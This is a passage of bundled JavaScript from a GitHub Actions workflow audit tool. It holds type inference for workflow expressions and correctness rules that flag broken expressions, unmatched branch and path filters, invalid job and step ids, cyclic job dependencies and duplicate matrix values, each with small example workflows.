    others,
});
/** What is available at an expression; undefined where none may stand or nothing is known. */
function scopeAt(site, context) {
    const at = (0,shape/* shapeOf */.F)(context.document)?.available.get(site.scalar);
    if (at === undefined)
        return undefined;
    return { at, contexts: contextsOf(site, context), ...allowedBy(isContainerVariable(at.path) ? withoutSteps(at.names) : at.names) };
}
/** Containers begin before all steps: GitHub's schema lets these be named, and its documentation does not. */
function isContainerVariable(path) {
    if (path[0] !== 'jobs')
        return false;
    return (path[2] === 'container' && path[3] === 'env') || (path[2] === 'services' && path[4] === 'env');
}
/** One list for one: `allowedBy` keeps its answer by the list. */
const withoutSteps = (0,remembered/* rememberedOf */.M)((names) => names.filter((name) => name !== 'steps'));
/** By the schema's list, of which there are few. */
const allowedBy = (0,remembered/* rememberedOf */.M)((names) => {
    const functions = names.filter((name) => name.includes('('));
    return {
        allowedContexts: new Set(names.filter((name) => !name.includes('(')).map((name) => name.toLowerCase())),
        allowedFunctions: new Set(functions.map((name) => name.slice(0, name.indexOf('(')).toLowerCase())),
        jobsInStatus: names.includes('success(0,MAX)'),
    };
});
/** By what an expression belongs to: most steps hold several. */
const scopes_contexts = new WeakMap();

function contextsMade(owner, context) {
    if (owner.kind === 'workflow')
        return ofWorkflow(owner, context, true);
    if (owner.kind === 'job')
        return ofJob(owner, context, owner.steps.length);
    if (owner.kind === 'action')
        return ofAction(owner, context, Number.POSITIVE_INFINITY);
    return owner.owner.kind === 'job' ? ofJob(owner.owner, context, owner.index) : ofAction(owner.owner.action, context, owner.index);
}
/** What is the same wherever one asks is worked out once for each document. */
const scopes_remembered = new WeakMap();

function ofWorkflow(workflow, context, outputs) {
    return once(workflow, `contexts ${outputs}`, () => {
        const shared = new Map([
            ['inputs', scopes_inputsOf(workflow)],
            ['secrets', secretsOf(workflow)],
            ['github', githubOf(workflow)],
        ]);
        const { variables } = context.settings;
        if (variables !== undefined)
            shared.set('vars', objectOf(variables.map((name) => [name, types/* stringType */.WO])));
        if (outputs)
            shared.set('jobs', objectOf(workflow.jobs.map((job) => [job.id, (0,contexts/* neededJobType */.PM)(outputsOf(job, context))])));
        return shared;
    });
}
function scopes_inputsOf({ call, dispatch, triggers }) {
    const called = objectOf((call?.inputs ?? []).map((input) => [input.name, inputType(input)]));
    if (!triggers.some(({ name }) => name === 'workflow_dispatch'))
        return called;
    const started = objectOf(dispatch.map((input) => [input.name, inputType(input)]));
    return call === undefined ? started : (0,types/* mergedType */.di)(called, started);
}
function inputType({ type }) {
    if (type === undefined)
        return types/* anyType */.ds;
    if (type.text === 'boolean')
        return types/* boolType */.rf;
    return type.text === 'number' ? types/* numberType */.We : types/* stringType */.WO;
}
/** A caller hands over what is declared; where nothing is, all that it has may be inherited. */
function secretsOf({ call, triggers }) {
    if (call === undefined || call.secrets.length === 0 || triggers.length > 1)
        return (0,types/* looseObject */._H)(types/* stringType */.WO);
    return objectOf([
        ...['github_token', 'actions_step_debug', 'actions_runner_debug'].map((name) => [name, types/* stringType */.WO]),
        ...call.secrets.map(({ name }) => [name, types/* stringType */.WO]),
    ]);
}
/** Inputs of a start by hand are texts in the event, whatever their type. */
function githubOf({ call, dispatch, triggers }) {
    // No other event has inputs; called, a workflow sees the event of its caller.
    if (call !== undefined || !triggers.some(({ name }) => name === 'workflow_dispatch'))
        return contexts/* githubContext */.h4;
    const inputs = objectOf(dispatch.map(({ name }) => [name, types/* stringType */.WO]));
    return { ...contexts/* githubContext */.h4, properties: new Map([...contexts/* githubContext */.h4.properties, ['event', (0,types/* looseObject */._H)(types/* anyType */.ds, { inputs })]]) };
}
/** @param steps how many of the job's steps have been begun. */
function ofJob(job, context, steps) {
    const shared = once(job, 'contexts', () => new Map([
        ...ofWorkflow(job.workflow, context, false),
        ['needs', needsOf(job, context)],
        ['matrix', matrixOf(job)],
    ]));
    // Most expressions ask for no step.
    return { get: (name) => (name === 'steps' ? stepsBefore(job, context, steps) : shared.get(name)) };
}
function needsOf(job, context) {
    const jobs = once(job.workflow, 'jobs', () => new Map(job.workflow.jobs.map((each) => [each.id.toLowerCase(), each])));
    const computed = job.needs.some(({ text }) => text.includes('${{'));
    const found = job.needs.flatMap(({ text }) => {
        const other = jobs.get(text.toLowerCase());
        return [[text, other === undefined ? (0,contexts/* neededJobType */.PM)() : once(other, 'needed', () => (0,contexts/* neededJobType */.PM)(outputsOf(other, context)))]];
    });
    return objectOf(found, computed ? (0,contexts/* neededJobType */.PM)() : undefined);
}
/** Outputs of a job, or of the reusable workflow that it calls. */
function outputsOf(job, context) {
    if (job.uses === undefined)
        return objectOf(job.outputs.map(({ name }) => [name, types/* stringType */.WO]));
    const { target } = job.uses;
    const called = target.kind === 'local' ? context.repository.workflow(target)?.document : undefined;
    if (called?.kind !== 'workflow' || called.call === undefined)
        return (0,types/* looseObject */._H)(types/* stringType */.WO);
    return objectOf(called.call.outputs.map(({ name }) => [name, types/* stringType */.WO]));
}
function stepsBefore(owner, context, count) {
    const all = once(owner, 'steps', () => stepsOf(owner, context));
    return { kind: 'object', properties: new Earlier(all, count), others: all.computed ? (0,contexts/* stepType */.Nn)() : undefined };
}
function stepsOf(owner, context) {
    const byId = new Map();
    let computed = false;
    for (const step of owner.steps) {
        const id = step.id?.text.toLowerCase();
        if (id === undefined)
            continue;
        if (id.includes('${{'))
            computed = true;
        else if (!byId.has(id))
            byId.set(id, { index: step.index, type: (0,contexts/* stepType */.Nn)(stepOutputs(step, context)) });
    }
    return { byId, ids: [...byId.keys()], computed };
}
/** The steps before one of them: a view, since a copy for each of many steps would grow with their square. */
class Earlier extends Map {
    all;
    count;
    constructor(all, count) {
        super();
        this.all = all;
        this.count = count;
    }
    get size() {
        let low = 0;
        let high = this.all.ids.length;
        while (low < high) {
            const middle = (low + high) >> 1;
            if (this.indexOf(this.all.ids[middle]) < this.count)
                low = middle + 1;
            else
                high = middle;
        }
        return low;
    }
    indexOf(id) {
        return this.all.byId.get(id)?.index ?? Number.POSITIVE_INFINITY;
    }
    get(id) {
        return this.indexOf(id) < this.count ? this.all.byId.get(id)?.type : undefined;
    }
    has(id) {
        return this.indexOf(id) < this.count;
    }
    *entries() {
        for (const id of this.all.ids) {
            const type = this.get(id);
            if (type === undefined)
                return;
            yield [id, type];
        }
    }
    [Symbol.iterator]() {
        return this.entries();
    }
    *keys() {
        for (const [id] of this.entries())
            yield id;
    }
    *values() {
        for (const [, type] of this.entries())
            yield type;
    }
}
function stepOutputs({ uses, with: given, withEntry }, context) {
    const target = uses?.target;
    if (target?.kind === 'local') {
        const action = context.repository.action(target)?.document;
        if (action?.kind !== 'action')
            return (0,types/* looseObject */._H)(types/* stringType */.WO);
        return objectOf(action.interface.outputs.map(({ name }) => [name, types/* stringType */.WO]));
    }
    if (target?.kind !== 'repository' || uses === undefined || withEntry?.value.kind === 'scalar')
        return (0,types/* looseObject */._H)(types/* stringType */.WO);
    if ((0,actions/* hasFreeOutputs */.RO)(target, given.map(({ name }) => name)))
        return (0,types/* looseObject */._H)(types/* stringType */.WO);
    const face = (0,actions.actionFace)(target, (0,uses_comment/* usesComment */.f)(uses, context.file));
    return face === undefined ? (0,types/* looseObject */._H)(types/* stringType */.WO) : objectOf([...face.outputs].map((name) => [name, types/* stringType */.WO]));
}
function ofAction(action, context, steps) {
    const { runs } = action;
    const shared = once(action, 'contexts', () => new Map([
        ['inputs', objectOf(action.interface.inputs.map(({ name }) => [name, types/* stringType */.WO]))],
        ['matrix', (0,types/* looseObject */._H)()],
        ['needs', (0,types/* looseObject */._H)()],
    ]));
    return { get: (name) => (name === 'steps' && runs.kind === 'composite' ? stepsBefore(runs, context, steps) : shared.get(name)) };
}
function matrixOf({ matrix }) {
    if (matrix === undefined)
        return (0,types/* strictObject */.re)();
    if (matrix.value.kind !== 'map')
        return (0,types/* looseObject */._H)();
    const { dimensions, include } = matrix;
    const properties = new Map(dimensions.map(({ name, value }) => [name.toLowerCase(), itemType(value)]));
    let loose = include !== undefined && include.kind !== 'list';
    for (const item of include?.kind === 'list' ? include.items : []) {
        if (item.kind !== 'map')
            loose = true;
        else
            for (const { name, value } of item.entries) {
                const known = properties.get(name.toLowerCase());
                properties.set(name.toLowerCase(), known === undefined ? typeOf(value) : (0,types/* mergedType */.di)(known, typeOf(value)));
            }
    }
    return { kind: 'object', properties, others: loose ? types/* anyType */.ds : undefined };
}
/** The type of a dimension's values. */
function itemType(node) {
    if (node.kind !== 'list' || node.items.length === 0)
        return types/* anyType */.ds;
    return node.items.map((item) => typeOf(item)).reduce((sum, type) => (0,types/* mergedType */.di)(sum, type));
}
/** The type of a value as YAML has it; an expression may give anything. */
function typeOf(node) {
    if (node.kind === 'list')
        return (0,types/* arrayOf */.jk)(itemType(node));
    if (node.kind === 'map')
        return objectOf(node.entries.map(({ name, value }) => [name, typeOf(value)]));
    if (node.text.includes('${{'))
        return types/* anyType */.ds;
    const value = (0,yaml_value/* scalarValue */.Um)(node);
    if (value === null)
        return types/* nullType */.sJ;
    if (typeof value === 'number')
        return types/* numberType */.We;
    return typeof value === 'boolean' ? types/* boolType */.rf : types/* stringType */.WO;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/expressions.js
// Expressions that GitHub cannot read, that refer to what is not there, or that give what their key cannot take.





const expressions_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - id: x\n        run: make\n';
const expressions = (0,src_rule/* audit */.s)({
    id: 'expression',
    severity: 'medium',
    confidence: 'high',
    title: 'An expression that cannot be what was meant',
    why: 'GitHub refuses the workflow, or the expression is empty in every run: a condition on it lets through or stops everything.',
    remedy: 'Correct the expression: name what there is, and compare what can be compared.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: [
        'https://docs.github.com/en/actions/reference/workflows-and-actions/expressions',
        'https://docs.github.com/en/actions/reference/workflows-and-actions/contexts',
    ],
    on: ['expression'],
    check(site, context) {
        const problems = (told.get(context) ?? 0) >= most ? none : problemsAt(site, context);
        return problems.length === 0 ? problems : counted(problems, context);
    },
    examples: {
        bad: [
            { text: `${expressions_head}      - run: echo \${{ steps.y.outputs.z }}\n` },
            { text: `${expressions_head}      - run: echo \${{ github.shaa }}\n` },
            { text: `${expressions_head}      - if: github.ref = 'x'\n        run: make\n` },
            { text: `${expressions_head}      - run: echo \${{ "a" }}\n` },
            { text: `${expressions_head}      - run: echo \${{ env.A\n` },
            { text: `${expressions_head}      - run: echo \${{ github.event }} \${{ github }}\n` },
            { text: `${expressions_head}      - run: echo \${{ needs.b.outputs.c }}\n` },
            { text: `${expressions_head}      - run: make\n        timeout-minutes: \${{ github.ref }}\n` },
            { text: `${expressions_head}      - if: steps.x.outputs\n        run: make\n` },
            { text: 'on: push\njobs:\n  a:\n    runs-on: ${{ github.run_attempt > 1 }}\n    steps:\n      - run: make\n' },
            { text: `name: a\non: push\nenv:\n  A: \${{ env.B }}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n` },
            { text: `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    if: hashFiles('a') != ''\n    steps:\n      - run: make\n` },
            {
                text: 'on: push\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest]\n    runs-on: ${{ matrix.oss }}\n    steps:\n      - run: make\n',
            },
        ],
        good: [
            {
                text: `name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    outputs:\n      z: \${{ steps.x.outputs.z }}\n    steps:\n      - id: x\n        run: make\n  b:\n    name: b\n    needs: a\n    if: needs.a.result == 'success' && !cancelled()\n    runs-on: ubuntu-latest\n    env:\n      Z: \${{ needs.a.outputs.z }}\n    steps:\n      - run: make "$Z"\n`,
            },
        ],
    },
});
/** More of them in one file say nothing new. */
const most = 500;
const told = new WeakMap();
function* counted(problems, context) {
    for (const problem of problems) {
        const count = (told.get(context) ?? 0) + 1;
        told.set(context, count);
        if (count > most)
            return;
        yield count < most
            ? problem
            : { ...problem, message: `${problem.message}; more than ${most} expressions of this file are wrong, and no more are told` };
    }
}
const none = [];
/** A list and no generator: it is asked of every expression, and most often there is nothing to tell. */
function problemsAt(site, context) {
    const { inner, open, path, scalar, span, tree } = site;
    const place = (start, end) => context.placeIn(scalar, inner.start + start, Math.max(inner.start + end, inner.start + start));
    const scope = scopeAt(site, context);
    // Where no expression may stand, that alone is told.
    if (scope === undefined || scalar.text.trim() === '')
        return none;
    if (open)
        return [{ at: context.placeIn(scalar, span.start, span.start + 3), message: 'The expression that begins here is not ended by `}}`' }];
    if (tree.kind === 'mistake')
        return [{ at: place(tree.span.start, tree.span.end), message: `This is no expression: ${tree.message}` }];
    const { mistakes, type } = (0,check/* checkExpression */.l)(tree, scope);
    // What an action gives where nothing is handed over is empty then, and no more.
    const less = path.includes('inputs') && path.at(-1) === 'default' ? { severity: 'low' } : {};
    if (mistakes.length > 0)
        return mistakes.map(({ message, span: at }) => ({ at: place(at.start, at.end), message: capital(message), ...less }));
    const refused = refusedType(site, type, scope.at) ?? refusedDefault(site, type);
    return refused === undefined ? none : [{ at: place(tree.span.start, tree.span.end), message: refused }];
}
/** What is wrong with a value of this type at this key; undefined where nothing is, or nobody knows. */
function refusedType(site, type, at) {
    const { path, scalar, span } = site;
    if (type.kind === 'any' || at.takes === undefined)
        return undefined;
    if (path.at(-1) === 'if')
        return refusedCondition(site, type);
    const whole = scalar.text.trim().length === span.end - span.start;
    if (!whole || (at.takes.text && type.kind === 'null'))
        return type.kind === 'object' || type.kind === 'array' || type.kind === 'null'
            ? `${capital((0,types/* describeType */.MF)(type))} has no text that means anything; use \`toJSON\` or one of its parts`
            : undefined;
    // A label of a runner is a text: of what else an expression gives one would be made that no runner has.
    const label = path.at(-1) === 'runs-on' && (type.kind === 'number' || type.kind === 'bool');
    if (!label && isTaken(type, at.takes))
        return undefined;
    const wanted = kinds.filter(([key]) => at.takes?.[key]).map(([, noun]) => noun);
    return `Expected ${wanted.join(' or ')} at ${(0,words/* shown */.SP)(at.path)}, got ${(0,types/* describeType */.MF)(type)}`;
}
/** A value of the matrix may be a mapping in one of its jobs and nothing in another. */
function refusedCondition({ scalar, span, inner }, type) {
    if (type.kind !== 'object' && type.kind !== 'array')
        return undefined;
    if (scalar.text.trim().length > span.end - span.start || /\bmatrix\b/i.test(scalar.text.slice(inner.start, inner.end)))
        return undefined;
    return `${capital((0,types/* describeType */.MF)(type))} is true in every run, an empty one, too; name the part of it that decides`;
}
/** What a called workflow takes where nothing is handed over must be of the input's own type. */
function refusedDefault({ owner, path, scalar, span }, { kind }) {
    if (kind === 'any' || owner.kind !== 'workflow' || path.at(-1) !== 'default')
        return undefined;
    const input = owner.call?.inputs.find((each) => each.default === scalar);
    const wanted = input?.type?.text;
    if (input === undefined || (wanted !== 'boolean' && wanted !== 'number'))
        return undefined;
    const whole = scalar.text.trim().length === span.end - span.start;
    if (whole && kind === (wanted === 'boolean' ? 'bool' : 'number'))
        return undefined;
    return `The input "${input.name}" is a ${wanted}, and this default is ${whole ? `a ${kind}` : 'a text'}`;
}
const kinds = [
    ['text', 'a text'],
    ['number', 'a number'],
    ['boolean', 'a boolean'],
    ['list', 'a list'],
    ['map', 'a mapping'],
];
function isTaken({ kind }, takes) {
    if (kind === 'object')
        return takes.map;
    if (kind === 'array')
        return takes.list;
    return takes.text || (kind === 'number' && takes.number) || (kind === 'bool' && takes.boolean);
}
function capital(text) {
    return text.charAt(0).toUpperCase() + text.slice(1);
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/glob.js
// Patterns of branches, tags and paths as GitHub reads them (filter pattern cheat sheet): what none can match.
/** What is wrong with a pattern, at most one thing. */
function globMistake(pattern, of) {
    const from = pattern.startsWith('!') ? 1 : 0;
    if (pattern.length === from)
        return { at: 0, message: from === 1 ? 'expected a pattern behind `!`' : 'expected a pattern, got nothing' };
    return (of === 'ref' ? refMistake(pattern, from) : pathMistake(pattern, from)) ?? syntaxMistake(pattern, from, of);
}
function refMistake(pattern, from) {
    if (pattern[from] === '/')
        return { at: from, message: 'no branch or tag begins with `/`' };
    if (pattern.endsWith('/'))
        return { at: pattern.length - 1, message: 'no branch or tag ends with `/`' };
    if (pattern.endsWith('.') && !pattern.endsWith('\\.'))
        return { at: pattern.length - 1, message: 'no branch or tag ends with `.`' };
    for (const pair of ['//', '..', '@{']) {
        const at = pattern.indexOf(pair, from);
        if (at >= 0)
            return { at, message: `no branch or tag has \`${pair}\` in its name` };
    }
    return undefined;
}
function pathMistake(pattern, from) {
    if (pattern !== pattern.trim())
        return { at: 0, message: 'a path with blanks at its ends matches no file' };
    const body = pattern.slice(from);
    if (/^\.{1,2}(?:\/|$)/.test(body))
        return { at: from, message: 'paths begin at the root of the repository: `./` and `../` match nothing' };
    return undefined;
}
function syntaxMistake(pattern, from, of) {
    let repeatable = false;
    for (let at = from; at < pattern.length; at++) {
        const letter = pattern[at];
        if ((letter === '?' || letter === '+') && !repeatable)
            return { at, message: `expected something that \`${letter}\` can follow` };
        const piece = pieceAt(pattern, at, of);
        if ('message' in piece)
            return piece;
        at = piece.end;
        repeatable = piece.repeatable;
    }
    return undefined;
}
function pieceAt(pattern, at, of) {
    const letter = pattern[at];
    if (letter === '\\') {
        const next = pattern[at + 1];
        if (of === 'ref' && next !== undefined && '[?*\\'.includes(next))
            return { at, message: `no branch or tag has \`${next}\` in its name` };
        if (next !== undefined && '[?*+\\!.'.includes(next))
            return { end: at + 1, repeatable: true };
        return { at, message: 'only `[`, `?`, `+`, `*`, `\\` and `!` can be escaped by `\\`' };
    }
    if (letter === '[') {
        const end = classEnd(pattern, at);
        return typeof end === 'number' ? { end, repeatable: true } : end;
    }
    if (of === 'ref' && /[\s~^:]/.test(letter))
        return { at, message: `no branch or tag has ${/\s/.test(letter) ? 'a blank' : `\`${letter}\``} in its name` };
    return { end: at, repeatable: !'?+*'.includes(letter) };
}
/** Offset of the bracket that closes a class of letters. */
function classEnd(pattern, start) {
    const end = pattern.indexOf(']', start + 1);
    if (end < 0)
        return { at: start, message: 'expected `]` that closes this `[`' };
    if (end === start + 1)
        return { at: start, message: 'expected letters within `[]`' };
    const letters = pattern.slice(start + 1, end);
    if (letters.length === 1)
        return { at: start, message: `\`[${letters}]\` is no more than \`${letters}\``, harmless: true };
    if (/[^-]-$/.test(letters))
        return { at: end - 1, message: 'expected the end of the range that `-` begins', harmless: true };
    for (const range of letters.matchAll(/(.)-(.)/g)) {
        const [, first = '', last = ''] = range;
        if (first > last)
            return { at: start + 1 + range.index, message: `the range \`${range[0]}\` runs backwards` };
    }
    return end;
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/filter-patterns.js
// Filters of branches, tags and paths whose pattern matches nothing, or is none.




const job = 'jobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n';
const filters = {
    branches: 'ref',
    'branches-ignore': 'ref',
    tags: 'ref',
    'tags-ignore': 'ref',
    paths: 'path',
    'paths-ignore': 'path',
};
/** Where the other of these lets something in, one that lets nothing in is meant. */
const sibling = { branches: 'tags', tags: 'branches' };
const filterPatterns = (0,src_rule/* audit */.s)({
    id: 'filter-patterns',
    aliases: ['glob'],
    severity: 'medium',
    confidence: 'high',
    title: 'A filter of a trigger matches nothing',
    why: 'The workflow does not run for the branches or files that it was meant for, or GitHub refuses it.',
    remedy: 'Write the pattern as the filter pattern cheat sheet has it.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#filter-pattern-cheat-sheet'],
    on: ['workflow'],
    *check({ triggers }, context) {
        for (const { config } of triggers) {
            for (const { key, name, value } of config?.entries ?? []) {
                const of = Object.hasOwn(filters, name) ? filters[name] : undefined;
                if (of === undefined)
                    continue;
                const items = value.kind === 'list' ? value.items : [value];
                const patterns = items.filter((item) => item.kind === 'scalar');
                // A key without a value is the schema's to tell.
                if (value.kind === 'scalar' && (0,yaml_value/* scalarValue */.Um)(value) === null && key.kind === 'scalar')
                    continue;
                for (const pattern of patterns)
                    yield* ofPattern(pattern, of, context);
                if (name === 'paths' || !config?.entries.some((entry) => entry.name === sibling[name]))
                    yield* onlyExcluding(name, patterns);
            }
        }
    },
    examples: {
        bad: [
            { text: `on:\n  push:\n    branches: ['^main$']\n${job}` },
            { text: `on:\n  push:\n    branches: ['/main']\n${job}` },
            { text: `on:\n  push:\n    tags: ['v[0-']\n${job}` },
            { text: `on:\n  push:\n    paths: ['./src/**']\n${job}` },
            { text: `on:\n  push:\n    paths: ['!docs/**']\n${job}` },
        ],
        good: [
            {
                text: `name: a\non:\n  push:\n    branches: [main, 'releases/**', 'v[12].[0-9]+', '!x']\n    paths: ['src/**', '**.md']\npermissions: {}\n${job}`,
            },
        ],
    },
});
function* ofPattern(scalar, of, context) {
    const mistake = globMistake(scalar.text, of);
    if (mistake === undefined)
        return;
    const at = scalar.text === '' ? scalar.at : context.placeIn(scalar, mistake.at, Math.min(mistake.at + 1, scalar.text.length));
    const pattern = `The pattern "${scalar.text.slice(0, 60)}"`;
    if (mistake.harmless)
        yield { at, severity: 'low', message: `${pattern} is odd: ${mistake.message}` };
    else
        yield { at, message: `${pattern} is none: ${mistake.message}` };
}
/** What is left out must have been let in before. */
function* onlyExcluding(name, patterns) {
    const [first] = patterns;
    if (first === undefined || name.endsWith('-ignore') || !patterns.every(({ text }) => text.startsWith('!')))
        return;
    yield { at: first.at, message: `All patterns of "${name}" leave something out, so none lets anything in` };
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/ids.js
// Ids of jobs and steps that GitHub does not take, or that stand twice.


const ids_head = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n';
const ids = (0,src_rule/* audit */.s)({
    id: 'job-and-step-ids',
    aliases: ['id'],
    severity: 'medium',
    confidence: 'high',
    title: 'An id that GitHub does not take',
    why: 'GitHub refuses the workflow as a whole, so none of its jobs runs.',
    remedy: 'Begin the id with a letter or `_`, go on with letters, digits, `-` and `_`, and give each id once.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_id'],
    on: ['workflow', 'action'],
    *check(document) {
        if (document.kind === 'action') {
            if (document.runs.kind === 'composite')
                yield* ofSteps(document.runs.steps);
            return;
        }
        for (const job of document.jobs) {
            yield* ids_ofForm(job.key, 'job');
            for (const need of job.needs)
                yield* ids_ofForm(need, 'job');
            yield* ofSteps(job.steps);
        }
    },
    examples: {
        bad: [
            { text: `${ids_head}      - id: 1a\n        run: make\n` },
            { text: `${ids_head}      - id: a\n        run: make\n      - id: A\n        run: make\n` },
            { text: 'on: push\njobs:\n  a b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n' },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  _a-1:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - id: b\n        run: make\n',
            },
        ],
    },
});
function* ids_ofForm(id, what) {
    if (id.text === '' || id.text.includes('${{') || /^[A-Za-z_][\w-]*$/.test(id.text))
        return;
    yield {
        at: id.at,
        message: `"${id.text.slice(0, 60)}" is no id of a ${what}: letters, digits, \`-\` and \`_\`, and at first a letter or \`_\``,
    };
}
function* ofSteps(steps) {
    const seen = new Set();
    for (const { id } of steps) {
        if (id === undefined)
            continue;
        yield* ids_ofForm(id, 'step');
        const name = id.text.toLowerCase();
        if (seen.has(name))
            yield { at: id.at, message: `The id "${id.text.slice(0, 60)}" belongs to a step before this one; case makes no difference` };
        seen.add(name);
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/job-needs.js
// The order of jobs: needs that lead nowhere, stand twice, or go round.


const job_needs_job = (name, needs) => `  ${name}:\n    needs: ${needs}\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n`;
const jobNeeds = (0,src_rule/* audit */.s)({
    id: 'job-needs',
    severity: 'medium',
    confidence: 'high',
    title: 'Jobs need what is not there, or one another',
    why: 'GitHub refuses the workflow as a whole, so none of its jobs runs, its gates among them.',
    remedy: 'Name jobs of this workflow in `needs`, each once, and no way round.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.flow,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idneeds'],
    on: ['workflow'],
    *check(workflow) {
        const jobs = new Map();
        for (const each of workflow.jobs) {
            const id = each.id.toLowerCase();
            // The same letter by letter is told as a key that stands twice.
            if ((jobs.get(id)?.id ?? each.id) !== each.id)
                yield { at: each.key.at, message: `The id "${each.id.slice(0, 60)}" belongs to a job before this one; case makes no difference` };
            if (!jobs.has(id))
                jobs.set(id, each);
        }
        for (const each of workflow.jobs)
            yield* ofNeeds(each, jobs);
        yield* cycle(workflow, jobs);
    },
    examples: {
        bad: [
            { text: `on: push\njobs:\n${job_needs_job('a', 'b')}` },
            { text: `on: push\njobs:\n${job_needs_job('a', '[b, B]')}${job_needs_job('b', '[]')}` },
            { text: `on: push\njobs:\n${job_needs_job('a', 'b')}${job_needs_job('b', 'a')}` },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n  b:\n    name: b\n    needs: [a]\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
            },
        ],
    },
});
function* ofNeeds({ id, needs }, jobs) {
    const seen = new Set();
    for (const need of needs) {
        const name = need.text.toLowerCase();
        if (seen.has(name))
            yield { at: need.at, message: `The job "${need.text.slice(0, 60)}" stands twice in the needs of "${id.slice(0, 60)}"` };
        else if (!jobs.has(name) && !name.includes('${{') && name !== '')
            yield { at: need.at, message: `The job "${id.slice(0, 60)}" needs "${need.text.slice(0, 60)}", which is no job of this workflow` };
        seen.add(name);
    }
}
/** The first way round, told once: jobs in it, and jobs that need those, never start. */
function* cycle({ jobs }, byId) {
    const done = new Set();
    for (const start of jobs) {
        const way = [{ job: start, next: 0 }];
        const on = new Set([start]);
        for (let top = way.at(-1); top !== undefined; top = way.at(-1)) {
            const need = top.job.needs[top.next++];
            if (need === undefined || done.has(top.job)) {
                done.add(top.job);
                on.delete(top.job);
                way.pop();
                continue;
            }
            const next = byId.get(need.text.toLowerCase());
            if (next === undefined || done.has(next))
                continue;
            if (on.has(next)) {
                const names = way.slice(way.findIndex(({ job }) => job === next)).map(({ job }) => job.id.slice(0, 40));
                const shown = names.length > 8 ? [...names.slice(0, 8), '\u2026'] : names;
                yield { at: next.key.at, message: `Jobs wait for one another: ${[...shown, names[0]].join(' needs ')}` };
                return;
            }
            on.add(next);
            way.push({ job: next, next: 0 });
        }
    }
}

;// CONCATENATED MODULE: ./build/bundled/packages/engines/workflow-audit/src/rules/correctness/matrix-values.js
// Values of a matrix that stand twice, and combinations to leave out that are not in it.



const matrix = (text) => `on: push\njobs:\n  a:\n    strategy:\n      matrix:\n${text}    runs-on: ubuntu-latest\n    steps:\n      - run: make\n`;
const matrixValues = (0,src_rule/* audit */.s)({
    id: 'matrix-values',
    aliases: ['matrix'],
    severity: 'low',
    confidence: 'high',
    title: 'A matrix that is not what it looks like',
    why: 'A job runs twice, or runs although it was meant to be left out.',
    remedy: 'Give each value once, and leave out combinations that the matrix has.',
    controls: controls/* controls */.n.configuration,
    risks: risks/* risks */.X.configuration,
    references: ['https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idstrategymatrix'],
    on: ['job'],
    *check({ matrix: own }) {
        if (own === undefined || own.value.kind !== 'map')
            return;
        for (const { name, value } of own.dimensions)
            yield* ofDimension(name, value);
        yield* ofExclude(own);
    },
    examples: {
        bad: [
            { text: matrix('        v: [1, 2, 1]\n') },
            { text: matrix('        v: [1, 2, "1"]\n') },
            { text: matrix('        v: [1, 2]\n        exclude:\n          - v: 3\n') },
            { text: matrix('        v: [1, 2]\n        exclude:\n          - w: 1\n') },
        ],
        good: [
            {
                text: 'name: a\non: push\npermissions: {}\njobs:\n  a:\n    name: a\n    strategy:\n      matrix:\n        v: [1, 2]\n        o: [{ a: b, c: d }]\n        exclude:\n          - { v: "2", o: { a: b } }\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
            },
        ],
    },
});
/** Values past these are not compared with one another: GitHub takes 256 jobs. */
const matrix_values_most = 500;
function* ofDimension(name, value) {
    if (value.kind !== 'list')
        return;
    const seen = new Set();
    for (const item of value.items.slice(0, matrix_values_most)) {
        // A job is named by the texts of its values, and its exclusions are found by them: 1 and "1" are one.
        const key = item.kind === 'scalar' ? item.text : keyOf(item, 0);
        if (key.includes('${{'))
            continue;
        if (seen.has(key))
            yield { at: (item.alias ?? item.at), message: `The value ${shown(item)} stands twice in "${name.slice(0, 60)}"` };
        seen.add(key);
    }
}
/** A value in one text, the same for equal values. */
function keyOf(node, depth) {
    if (depth > 20)
        return '\u2026';
    if (node.kind === 'list')
        return `[${node.items.map((item) => keyOf(item, depth + 1)).join(',')}]`;
    if (node.kind === 'map')
        return `{${node.entries
            .map(({ name, value }) => `${JSON.stringify(name)}:${keyOf(value, depth + 1)}`)
            .sort()
            .join(',')}}`;
    const value = (0,yaml_value/* scalarValue */.Um)(node);
    return typeof value === 'string' ? JSON.stringify(value) : String(value);
}
function shown(node) {
    return node.kind === 'scalar' ? `"${node.text.slice(0, 60)}"` : node.kind === 'map' ? 'of this mapping' : 'of this list';
}
function* ofExclude(matrix) {
    const { dimensions, exclude, include, key } = matrix;
    if (exclude?.kind !== 'list' || exclude.items.length === 0)
        return;
